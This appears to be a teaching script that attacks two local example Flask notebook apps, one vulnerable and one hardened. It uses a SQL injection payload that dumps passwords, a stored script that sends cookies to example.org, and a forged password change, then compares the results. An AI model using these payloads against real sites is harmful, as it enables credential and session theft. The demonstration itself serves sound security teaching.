"""Attack both notebooks in the three classic ways, and print what came of it."""

import json
import re

from flask import Flask
from flask.testing import FlaskClient

from examples.start.cs50_web import closed_notes, open_notes

# The quote ends the text that the program began; the two dashes hide what the program adds.
UNION = "' UNION SELECT name || ' has the password ' || password FROM members --"
SCRIPT = '<script>fetch("//example.org/?" + document.cookie)</script>'


def visit(app: Flask) -> FlaskClient:
    """Return a browser in which grace has signed in, as she does: through the pages."""
    browser = app.test_client()
    secret = {'name': 'grace', 'password': 'moth'}
    browser.post('/sign-in', data=secret | own_token(browser))
    return browser


def own_token(browser: FlaskClient) -> dict[str, str]:
    """Return the hidden field of the app's own form, if it has one."""
    found = re.search('name="token" value="(.*?)"', browser.get('/form').text)
    return {'token': found[1]} if found else {}


def inject(app: Flask) -> str:
    """Ask for notes, get passwords."""
    return app.test_client().get('/search', query_string={'word': UNION}).text


def plant(app: Flask) -> str:
    """Leave a script in a note, and return the page that every reader of it gets."""
    browser = visit(app)
    answer = browser.post('/notes', data={'text': SCRIPT} | own_token(browser))
    number = json.loads(answer.text)['id']
    return browser.get(f'/notes/{number}').text


def forge(app: Flask) -> str:
    """Send what a form on another site sends, from the browser in which grace is signed in."""
    browser = visit(app)
    # Another site can't read our pages, so it can't know a hidden field of them.
    return browser.post('/password', data={'password': 'known'}).status


def main() -> None:
    """Print what each attack reached."""
    for app in (open_notes.app, closed_notes.app):
        print(app.name)
        print('  injection:', inject(app).strip())
        print('  scripting:', 'runs' if '<script>' in plant(app) else 'is shown as text')
        print('  forgery:', forge(app))


if __name__ == '__main__':
    main()
